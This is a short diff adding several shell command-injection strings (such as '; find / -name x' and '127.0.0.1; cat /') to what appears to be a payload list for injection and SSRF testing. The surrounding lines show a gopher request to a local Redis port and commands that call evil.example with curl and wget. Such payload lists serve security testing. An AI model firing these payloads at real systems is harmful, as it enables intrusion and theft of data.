@@ -116,6 +116,9 @@ gopher://127.0.0.1:6379/_INFO
 $(id)
 `id`
 ; ls -la
+; find / -name x
+try ; find . -name core
+127.0.0.1; cat /
 127.0.0.1; ping -c 1 evil.example
 a || curl http://evil.example/x
 ;wget${IFS}http://evil.example
